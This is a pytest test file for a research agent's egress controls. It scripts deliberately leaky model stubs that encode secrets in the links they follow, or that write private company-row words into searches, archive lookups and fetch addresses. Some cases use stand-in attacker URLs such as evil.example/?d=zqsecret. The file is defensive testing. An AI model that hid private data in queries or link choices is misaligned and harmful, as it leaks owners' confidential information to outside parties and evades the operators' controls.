"""What sites and services hear of a task whose model hands on all that it knows, by whatever it may choose."""

from __future__ import annotations

import asyncio
import json
import math
import random
import re
import sys
from collections.abc import Callable, Sequence
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from pydantic import BaseModel

sys.path.insert(0, str(Path(__file__).parents[1] / "tasks"))

from task_runs import APPROVED, DONE, FOUND, HEIGHT, QUESTION, SEARCH, TaskModel, engine, number_of, task_of

from deep_research import SearchResult, Tool, ToolResult
from deep_research.errors import ToolError
from deep_research.models.base import ModelCall
from deep_research.models.failures import Verdict, failure
from deep_research.phases.gathering.caps import Fetching
from deep_research.phases.gathering.handoff import GatheredSource, GathererInput
from deep_research.phases.gathering.source_reading import SourceReader
from deep_research.phases.gathering.tasks.library import MAX_OFFERED_LINKS, DataSources, Egress
from deep_research.phases.gathering.tasks.task_context import TaskContext
from deep_research.phases.gathering.tasks.tool import Link
from deep_research.phases.gathering.tasks.tools import Fetch, Library
from deep_research.sources.extract import Document
from deep_research.sources.fetch.pages import WebPage
from deep_research.sources.search.combined_search import CORPUS
from deep_research.state import DeepResearchPhase, DeepResearchState, SourceKind
from deep_research.state.journal import MemoryJournal, utc_now
from deep_research.testing import ScriptedSearch

ROOT = "https://evil.example/"
BITS = 128
SECRETS = 12  # that are spelled in each tree


class Pages:
    """Reads any page: it has the ``links`` of its address, as a page says "see". ``asked`` are the addresses, in the
    order in which their sites heard of them; ``leads`` says where an address leads to."""

    def __init__(
        self, links: Callable[[str], Sequence[str]], leads: Callable[[str], str] = lambda url: url
    ) -> None:
        self.links, self.leads = links, leads
        self.asked: list[str] = []

    async def read(self, url: str) -> WebPage[Document]:
        self.asked.append(url)
        named = " ".join(f"See [branch {n}]({address})." for n, address in enumerate(self.links(url)))
        text = f"{HEIGHT} {named}"
        return WebPage(
            url=url, final_url=self.leads(url), fetched_at=utc_now(), headers={}, body=text.encode(),
            snapshot_hash="0" * 64, document=Document(title=f"Orm {len(self.asked)}", text=text), was_requested=True,
        )  # fmt: skip


def pointing(*addresses: str) -> ScriptedSearch:
    """A search that finds these pages, unread."""
    found = [SearchResult(address=address, title="Orm", snippet=HEIGHT) for address in addresses]
    return ScriptedSearch(lambda request: found)


def uses(*actions: dict[str, Any]) -> dict[str, Any]:
    return {"actions": list(actions)}


def fetch(*numbers: int) -> dict[str, Any]:
    return uses(*({"tool": "fetch", "link": f"L{number}"} for number in numbers))


def below(url: str, count: int) -> list[str]:
    return [f"{url.rstrip('/')}/{n}" for n in range(count)]


def path_of(url: str) -> str:
    """The way down a tree, wherever an address has it."""
    return "".join(re.findall(r"(?<=x)\d+", url))


# By name: the links of a page, what a search finds, where an address leads to.
TREES: dict[str, tuple[Callable[[str], Sequence[str]], tuple[str, ...], Callable[[str], str]]] = {
    "two a page": (lambda url: below(url, 2), (ROOT,), lambda url: url),
    "one a page": (lambda url: below(url, 1), (ROOT,), lambda url: url),
    "many a page": (lambda url: below(url, 6), (ROOT,), lambda url: url),
    "subdomains": (
        lambda url: [f"https://x{path_of(url)}{n}.evil.example/" for n in range(4)],
        (ROOT,),
        lambda url: url,
    ),
    "ports": (
        lambda url: [f"https://evil.example:{8000 + n}/x{path_of(url)}{n}" for n in range(4)],
        (ROOT,),
        lambda url: url,
    ),
    "queries": (lambda url: [f"{ROOT}?d=x{path_of(url)}{n}" for n in range(4)], (ROOT,), lambda url: url),
    "a site for each page": (
        lambda url: [f"https://x{path_of(url)}{n}.org/" for n in range(4)],
        (ROOT,),
        lambda url: url,
    ),
    "a platform": (
        lambda url: [f"https://x{path_of(url)}{n}.github.io/" for n in range(4)],
        (ROOT,),
        lambda url: url,
    ),
    "redirects": (
        lambda url: [f"https://short.example/x{path_of(url)}{n}" for n in range(4)],
        (ROOT,),
        lambda url: f"https://x{path_of(url)}.org/",
    ),
    "pages of two sites that name a third": (
        lambda url: [f"https://third.example/x{path_of(url)}{n}" for n in range(4)],
        ("https://one.example/", "https://two.example/"),
        lambda url: url,
    ),
}


class Spelling(TaskModel):
    """Reads the pages that were found, then chooses by its secret what to follow: which links, in which order, how
    often, and with what words it is sent back."""

    def __init__(self, secret: int, found: int) -> None:
        super().__init__(self._step, self._review)
        self._choose = random.Random(secret)
        self._found = found

    def _step(self, said: str) -> dict[str, Any]:
        number = number_of(said)
        if number == 1:
            return SEARCH
        if number == 2:
            return fetch(*range(1, self._found + 1))
        last = max(map(int, re.findall(r"^L(\d+):", said, re.M)), default=1)
        names = [self._choose.randint(1, last) for _ in range(self._choose.randint(1, 4))]
        return fetch(*names) if number else FOUND

    def _review(self, said: str) -> dict[str, Any]:
        branch = self._choose.randint(0, 5)
        return {"approved": False, "critique": "More.", "follow_up_question": f"What is in branch {branch}?"}


@pytest.mark.parametrize("tree", TREES)
def test_a_page_reads_at_most_two_bits_of_a_secret_by_the_links_that_a_model_follows(tree: str) -> None:
    links, found, leads = TREES[tree]
    heard = set()
    for secret in range(SECRETS):
        pages = Pages(links, leads)
        model = Spelling(random.Random(secret).getrandbits(BITS), len(found))
        with engine(model, search=[pointing(*found)], pages=pages, tasks={"max_retries": 1}) as research:
            result = research.run(QUESTION)
        (task,) = result.state.tasks
        assert task.refusals > 0  # what was not done is told, of all attempts
        assert any(f"was refused {task.refusals} times" in notice.message for notice in result.notices)
        heard.add(tuple(pages.asked))
    assert len(heard) > 1  # something is heard, or nothing is shown here
    assert math.log2(len(heard)) <= 2


def test_of_128_bits_that_a_tree_asks_for_two_leave() -> None:
    secret = [random.Random(7).getrandbits(1) for _ in range(BITS)]
    pages = Pages(lambda url: below(url, 2))

    def obeys(said: str) -> dict[str, Any]:
        """Goes down the branch that the next bit names, as long as there is one."""
        shown = re.findall(r"^L(\d+): “.*branch (\d)", said, re.M)
        step = number_of(said)
        if step < 3:
            return SEARCH if step == 1 else fetch(1)
        wanted = [n for n, branch in shown[-2:] if int(branch) == secret[step - 3]]
        return fetch(*map(int, wanted)) if wanted and step else FOUND

    with engine(TaskModel(obeys), search=[pointing(ROOT)], pages=pages, tasks={"max_steps": 100}) as research:
        research.run(QUESTION)
    branches = [url for url in pages.asked if url != ROOT]
    assert 0 < sum(len(url.removeprefix(ROOT).split("/")) for url in branches) <= 2


def test_links_of_other_sites_are_followed_as_far() -> None:
    roots = [f"https://{name}.example/" for name in ("one", "two", "three")]
    pages = Pages(lambda url: below(url, 2))
    model = TaskModel((SEARCH, fetch(1, 2, 3), fetch(4, 5, 6), fetch(7, 8, 9), FOUND))
    with engine(model, search=[pointing(*roots)], pages=pages) as research:
        result = research.run(QUESTION)
    assert sorted(pages.asked) == sorted([*roots, *(url for root in roots for url in below(root, 2))])
    (task,) = result.state.tasks
    assert [use.refused for step in task.steps for use in step.uses].count(True) == task.refusals == 0


def _link(address: str, **more: Any) -> Link:
    return Link(address=address, title="see", **more)


NAMED = {"origin": "evil.example"}


@pytest.mark.parametrize(
    ("private", "link", "allowed", "followed"),
    [
        ((), _link(ROOT), False, True),
        ((), _link(f"{ROOT}1", **NAMED), False, True),
        ((CORPUS,), _link(ROOT), False, True),
        ((CORPUS,), _link(f"{ROOT}1", **NAMED), False, False),
        ((CORPUS,), _link(f"{ROOT}1", **NAMED), True, False),
        (("company_db",), _link(ROOT), False, False),
        (("company_db",), _link(ROOT, private=True), False, True),
        (("company_db",), _link(f"{ROOT}1", **NAMED), False, False),
        (("company_db",), _link(ROOT), True, True),
        (("company_db",), _link(f"{ROOT}1", **NAMED), True, False),
    ],
)
def test_which_links_are_followed_after_what_was_shown(
    private: tuple[str, ...], link: Link, allowed: bool, followed: bool
) -> None:
    egress = Egress(allowed=allowed, private=dict.fromkeys(private))
    if followed:
        egress.follow("L1", link, [link])
        with pytest.raises(ToolError, match="asked for already"):
            egress.follow("L1", link, [link])
    else:
        with pytest.raises(ToolError, match="L1 is not followed") as refused:
            egress.follow("L1", link, [link])
        assert refused.value.data["refused"]
        assert "\n" not in str(refused.value)


@pytest.mark.parametrize(
    ("links", "offered"),
    [
        ([_link(f"{ROOT}{n}") for n in range(5)], 5),
        ([_link(f"{ROOT}{n}", **NAMED) for n in range(5)], MAX_OFFERED_LINKS),
        ([_link(f"https://x{n}.evil.example:{8000 + n}/", **NAMED) for n in range(5)], MAX_OFFERED_LINKS),
        ([_link(f"https://x{n}.example/", **NAMED) for n in range(5)], MAX_OFFERED_LINKS),
        ([_link(f"https://x{n}.evil.co.uk/", origin=f"{n}.org") for n in range(5)], MAX_OFFERED_LINKS),
        ([_link(f"https://203.0.113.7:{8000 + n}/", origin=f"{n}.org") for n in range(5)], MAX_OFFERED_LINKS),
        ([_link(f"https://x{n}.org/", origin=f"{n}.com") for n in range(5)], 5),
    ],
    ids=["found", "one site", "ports", "many sites that one names", "one site that many name", "an address", "many"],
)  # fmt: skip
def test_how_many_links_are_offered(links: list[Link], offered: int) -> None:
    assert len(Egress().offered_of(links)) == offered
    assert len(Egress(private={CORPUS: None}).offered_of(links)) == (5 if not links[0].origin else 0)


@pytest.mark.parametrize(
    ("asks", "offered"),
    [({"fetches": 1}, MAX_OFFERED_LINKS), ({"searches": 1}, 5), ({}, 5)],
    ids=["reads", "searches", "asks nobody"],
)
def test_links_of_a_tool_that_reads_pages_count_as_links_of_pages(asks: dict[str, int], offered: int) -> None:
    class Giving(Ledger):
        private = False

        async def __call__(self, arguments: Term, view: Any) -> ToolResult:
            return ToolResult(links=tuple(_link(f"https://x{n}.org/") for n in range(5)), **asks)

    for name, many in asks.items():
        setattr(Giving, name, many)
    model = TaskModel((uses({"tool": "ledger", "term": "Orm"}), fetch(1, 2, 3), SEARCH, {"actions": [DONE]}))
    pages = Pages(lambda url: ())
    tools = [Giving("")]
    with engine(
        model, search=[pointing(ROOT)], pages=pages, tools=tools, tasks={"max_retries": 0}
    ) as research:
        research.run(QUESTION)
    assert len(re.findall(r"^L\d+:", model.asked[1], re.M)) == offered
    assert len(pages.asked) == min(3, offered)


def test_links_of_a_site_are_followed_in_their_order() -> None:
    pages = Pages(lambda url: below(url, 2))
    model = TaskModel((SEARCH, fetch(1), fetch(3, 2), FOUND))
    with engine(model, search=[pointing(ROOT)], pages=pages) as research:
        result = research.run(QUESTION)
    assert pages.asked == [ROOT, f"{ROOT}1"]
    assert "L2 is not followed: a later link of that site was." in model.asked[-1]
    assert result.state.tasks[0].refusals == 1


def test_the_question_of_a_task_has_no_say_in_which_links_a_page_gives() -> None:
    """A page may have had a say in it, by way of a reviewer that obeys."""

    class Long(Pages):
        async def read(self, url: str) -> WebPage[Document]:
            page = await super().read(url)
            filler = "Of other matters there is much to say in this long book. " * 60
            named = [
                f"The zebras of branch {n}. See [branch {n}]({link})."
                for n, link in enumerate(self.links(url))
            ]
            text = "\n\n".join([*(f"{filler}\n\n{each}" for each in named), filler, f"{HEIGHT} {named[1]}"])
            return replace(page, document=Document(title="Orm", text=text))

    handoff = GathererInput(
        research_id="deepres-000000000000", original_query=QUESTION, current_phase=DeepResearchPhase.GATHERING,
        iteration=1, sub_queries=(QUESTION,), max_sources_per_query=3,
    )  # fmt: skip
    reading = SourceReader(pages=Long(lambda url: below(url, 4)))
    given = set()
    for asked in (QUESTION, "The zebras of branch 0", "The zebras of branch 3"):
        desk = TaskContext(
            asked, ("web",), MemoryJournal(DeepResearchState(query=QUESTION)), links=[_link(ROOT)]
        )
        tool = Fetch(Library(DataSources(), reading, handoff, Fetching()))
        result = asyncio.run(tool(tool.arguments(link="L1"), desk))
        given.add(tuple(link.address for link in result.links))
    assert given == {(f"{ROOT}1",)}


def test_those_that_are_offered_are_the_best_by_the_words_of_the_question() -> None:
    titles = ("see the shop", "see the Orm lighthouse", "see the forum", "see how tall it is")
    links = [Link(address=f"{ROOT}{n}", title=title, **NAMED) for n, title in enumerate(titles)]
    assert [link.title for link in Egress(QUESTION).offered_of(links)] == [titles[1], titles[3]]


# A task that is gone on with

SCRIPT = (
    SEARCH,
    fetch(1),
    fetch(3),
    fetch(2, 3),
    uses({"tool": "search", "query": "Orm", "data_source": "company_db"}),
    uses({"tool": "search", "query": "Orm tower"}, {"tool": "search", "query": "Orm", "data_source": "web"}),
    FOUND,
)


def scripted(
    folder: Path, stopped: int | None, pages: Pages, run_id: str | None = None
) -> tuple[Any, list[str]]:
    """A run of the script, or one that is gone on with; its model cannot be reached at the step ``stopped``."""

    def step(said: str) -> Any:
        number = number_of(said)
        return failure(Verdict.PARK, "come back", model="m") if number == stopped else SCRIPT[number - 1]

    web = pointing(ROOT)
    more: dict[str, Any] = {
        "store": "sqlite",
        "data_dir": folder,
        "tasks": {"sources": ["web", "company_db"]},
    }
    row = SearchResult(address="row/1", title="Row", text=HEIGHT)
    own = ScriptedSearch(lambda request: [row] if request.query == "Orm" else [], name="company")
    data = {"company_db": own}
    with engine(TaskModel(step), search=[web], pages=pages, data_sources=data, **more) as research:
        result = research.resume(run_id) if run_id else research.run(QUESTION)
    return result, [request.query for request in web.requests]


def _record(result: Any) -> list[tuple[str, bool, bool]]:
    (task,) = result.state.tasks
    return [(use.tool, use.failed, use.refused) for step in task.steps for use in step.uses]


def test_a_task_that_is_gone_on_with_keeps_its_count_at_every_step(tmp_path: Path) -> None:
    pages = Pages(lambda url: below(url, 4))
    whole, searched = scripted(tmp_path / "whole", None, pages)
    (task,) = whole.state.tasks
    assert (task.private, task.refusals, len(task.offered)) == (("company_db",), 3, MAX_OFFERED_LINKS)
    assert pages.asked == [ROOT, f"{ROOT}1"]
    for stopped in range(2, len(SCRIPT)):
        again, folder = Pages(lambda url: below(url, 4)), tmp_path / str(stopped)
        first, before = scripted(folder, stopped, again)
        assert first.status == "parked"
        second, after = scripted(folder, None, again, first.research_id)
        assert _record(second) == _record(whole)
        assert second.state.tasks[0].offered == task.offered
        assert (again.asked, before + after) == (pages.asked, searched)


# Private sources

_WORD = re.compile(r"\bzq[a-z]{6}\b")


def _words_of(prompt: str) -> str:
    """The secret words that a prompt has."""
    return " ".join(dict.fromkeys(_WORD.findall(prompt)))


def secret_words(seed: int) -> list[str]:
    choose = random.Random(seed)
    return ["zq" + "".join(choose.choices("abcdefghijklmnop", k=6)) for _ in range(4)]


class Term(BaseModel):
    term: str


class Archive(Tool):
    """Asks a service of others for a term; ``asked`` are the terms."""

    name = "archive"
    description = "Look a term up in a public archive."
    arguments = Term
    searches = 1

    def __init__(self) -> None:
        self.asked: list[str] = []

    async def __call__(self, arguments: Term, view: Any) -> ToolResult:
        self.asked.append(arguments.term)
        return ToolResult(text="Nothing is known of it.", searches=1)


class Ledger(Tool):
    """Gives rows that are the owner's."""

    name = "ledger"
    description = "Look into the ledger."
    arguments = Term
    private = True

    def __init__(self, text: str) -> None:
        self.text = text

    async def __call__(self, arguments: Term, view: Any) -> ToolResult:
        return ToolResult(sources=(GatheredSource(title="Ledger", content=self.text),))


class Telling(TaskModel):
    """Writes all of the secret words that it reads into whatever it may ask, of whomever."""

    def __init__(self, seed: int, first: dict[str, Any]) -> None:
        super().__init__(self._step, self._review)
        self._choose = random.Random(seed)
        self._first = first
        self._words = ""
        self.known: dict[str, None] = {}

    def answer(self, call: ModelCall) -> str:
        self._words = _words_of(call.messages[-1].content)
        self.known |= dict.fromkeys(self._words.split())
        given = super().answer(call)
        if call.form is None or not given.startswith("{"):
            return given
        data = json.loads(given)
        words = f"What of {self._words}?"
        if "quality_updates" in data:
            data["gaps"] = [{"description": words, "suggested_queries": [words]}]
        for gap in data.get("gap_analysis", ()):
            gap["follow_up_queries"] = [{"query": words, "expected_contribution": "more"}]
        return json.dumps(data)

    def _step(self, said: str) -> dict[str, Any]:
        number, words = number_of(said), self._words
        if not words:
            return self._first if number else {"actions": [DONE]}
        if not number or number > 5:
            return {"actions": [DONE], "answer": words}
        every: list[dict[str, Any]] = [
            {"tool": "search", "query": f"Orm {words}"},
            {"tool": "search", "query": words, "data_source": "web"},
            {"tool": "search", "query": words, "data_source": "company_db"},
            {"tool": "archive", "term": words},
            {"tool": "look_up", "section": words},
            *({"tool": "fetch", "link": f"L{n}"} for n in range(1, 5)),
        ]
        return uses(*self._choose.sample(every, 4))

    def _review(self, said: str) -> dict[str, Any]:
        words = f"What of {self._words}?"
        return {**APPROVED, "approved": self._choose.random() < 0.3, "follow_up_question": words}


def told_public(
    seed: int, folder: Path, *, model: Any = None, **more: Any
) -> tuple[list[str], list[str], Any]:
    """A run over the web and a private source: what the web was asked, what the private source was, and the run."""
    words = secret_words(seed)
    text = (
        f"{HEIGHT} The Orm lighthouse has {' '.join(words)}. Ada {words[0].title()} kept the Orm lighthouse."
    )
    web, archive = pointing(f"{ROOT}{seed}", "https://other.example/"), Archive()
    own = ScriptedSearch(
        lambda request: [
            SearchResult(address="row/1", title=f"Row {words[1]}", text=text),
            SearchResult(address="https://rows.example/2", title=words[2], snippet=text),
        ],
        name="company",
    )
    pages = Pages(lambda url: below(url, 2))
    corpus = folder / "corpus"
    corpus.mkdir(parents=True)
    (corpus / "orm.md").write_text(f"# Orm\n\n{HEIGHT}\n", encoding="utf-8")
    given: dict[str, Any] = {
        "corpus": corpus,
        "search": ["corpus", web],
        "data_sources": {"company_db": own},
        "tools": [archive, Ledger(text)],
        "pages": pages,
        "max_iterations": 2,
        "tasks": {"max_retries": seed % 3},
        "data_dir": folder / "data",
    }
    with engine(model, **{**given, **more}) as research:
        result = research.run(QUESTION)
    public = [*(request.query for request in web.requests), *archive.asked, *pages.asked]
    return public, [request.query for request in own.requests], result


FIRST = {
    "all": SEARCH,
    "the private source": uses({"tool": "search", "query": "Orm", "data_source": "company_db"}),
    "side by side": uses(
        {"tool": "search", "query": "Orm", "data_source": "company_db"},
        {"tool": "search", "query": "Orm", "data_source": "web"},
    ),
    "a private tool": uses({"tool": "ledger", "term": "Orm"}),
    "what fails": uses({"tool": "ledger"}, {"tool": "search", "query": "Orm"}),
}


def leaked(words: Sequence[str], public: Sequence[str]) -> list[str]:
    return [said for said in public for word in words if word in said.lower()]


@pytest.mark.parametrize("part", range(5))
def test_no_word_of_a_private_row_is_asked_of_others(part: int, tmp_path: Path) -> None:
    passed_on = 0
    for seed in range(part, 50, 5):
        name = list(FIRST)[seed // 5 % len(FIRST)]
        model = Telling(seed, FIRST[name])
        public, own, result = told_public(seed, tmp_path / str(seed), model=model)
        assert leaked(secret_words(seed), public) == [], name
        assert not any(url.startswith(f"{ROOT}{seed}/") for url in public)
        assert set(secret_words(seed)) <= set(model.known)
        passed_on += bool(leaked(secret_words(seed), own))
        assert any("refused" in each.message or "did not search" in each.message for each in result.notices)
    assert passed_on  # to the private source it is


@pytest.mark.parametrize("seed", range(3))
def test_without_a_model_no_word_of_a_private_row_is_asked_of_others(seed: int, tmp_path: Path) -> None:
    public, own, result = told_public(seed, tmp_path)
    assert leaked(secret_words(seed), public) == []
    assert own
    assert result.status == "completed"


def test_a_task_that_goes_on_without_a_model_asks_no_others_what_it_was_sent_back_with() -> None:
    row = SearchResult(address="row/1", title="Row", text=f"{HEIGHT} Its keeper is zqkeeper.")
    own, web = ScriptedSearch(lambda request: [row], name="company"), pointing(ROOT)
    first = uses({"tool": "search", "query": "Orm", "data_source": "company_db"})
    review = {"approved": False, "critique": "More.", "follow_up_question": "Who is zqkeeper?"}

    def step(said: str) -> Any:
        if task_of(said) != QUESTION:
            return failure(Verdict.PARK, "come back", model="m")
        return first if number_of(said) == 1 else FOUND

    more: dict[str, Any] = {"data_sources": {"company_db": own}, "on_outage": "extractive"}
    with engine(TaskModel(step, [review]), search=[web], tasks={"max_retries": 1}, **more) as research:
        result = research.run(QUESTION)
    assert "Who is zqkeeper?" in [request.query for request in own.requests]
    assert leaked(["zqkeeper"], [request.query for request in web.requests]) == []
    (task,) = result.state.tasks
    assert [use.arguments["data_source"] for step in task.steps for use in step.uses if use.refused] == [
        "web"
    ]


def test_what_a_private_source_gave_to_one_iteration_is_asked_of_no_other_in_the_next(tmp_path: Path) -> None:
    """The queries of the second iteration are made of what the first one found."""
    _, _, result = told_public(
        1, tmp_path, model=Telling(1, FIRST["the private source"]), tasks={"max_retries": 0}
    )
    later = [t for t in result.state.tasks if t.task.sub_query_id in _of_iteration(result, 2)]
    assert later
    assert all("company_db" in task.task.private for task in later)


def _of_iteration(result: Any, iteration: int) -> set[str]:
    return {each.id for each in result.state.sub_queries if each.iteration == iteration}


def test_its_owner_may_let_tasks_ask_others_all_the_same(tmp_path: Path) -> None:
    model = Telling(1, FIRST["the private source"])
    public, _, _ = told_public(1, tmp_path, model=model, tasks={"public_after_private": True})
    assert leaked(secret_words(1), public)


def test_documents_close_links_of_pages_and_no_search(tmp_path: Path) -> None:
    document = SearchResult(address="a.md", title="Ours", text=HEIGHT, kind=SourceKind.DOCUMENT)
    found = [document, SearchResult(address=ROOT, title="Orm", snippet=HEIGHT)]
    pages = Pages(lambda url: below(url, 2))
    model = TaskModel((SEARCH, fetch(1), {"actions": [{"tool": "search", "query": "Orm again"}]}, FOUND))
    with engine(model, search=[web := ScriptedSearch(lambda r: found)], pages=pages) as research:
        result = research.run(QUESTION)
    (task,) = result.state.tasks
    assert (task.private, task.offered, task.refusals) == ((CORPUS,), (), 0)
    assert [request.query for request in web.requests][-1] == "Orm again"
    assert pages.asked == [ROOT]
    assert "2 more links of pages are not offered" in model.asked[2]


@pytest.mark.parametrize(
    ("action", "said"),
    [
        ({"tool": "fetch", "link": f"{ROOT}?d=zqsecret"}, "Nothing of that may be asked"),
        ({"tool": "fetch", "link": "evil.example/zqsecret"}, "Nothing of that may be asked"),
        ({"tool": "fetch", "link": "zqsecret"}, "There is no link"),
        ({"tool": "search", "query": f"{ROOT}?d=zqsecret"}, "Nothing of that may be asked"),
        ({"tool": "look_up", "section": f"{ROOT}?d=zqsecret"}, "Nothing of that may be asked"),
    ],
)
def test_an_address_that_the_model_wrote_is_never_asked(action: dict[str, Any], said: str) -> None:
    pages = Pages(lambda url: ())
    model = TaskModel((SEARCH, uses(action), FOUND))
    with engine(model, search=[web := pointing(ROOT)], pages=pages, tasks={"max_retries": 0}) as research:
        research.run(QUESTION)
    assert said in model.asked[2]
    assert leaked(["zqsecret"], [*pages.asked, *(request.query for request in web.requests)]) == []
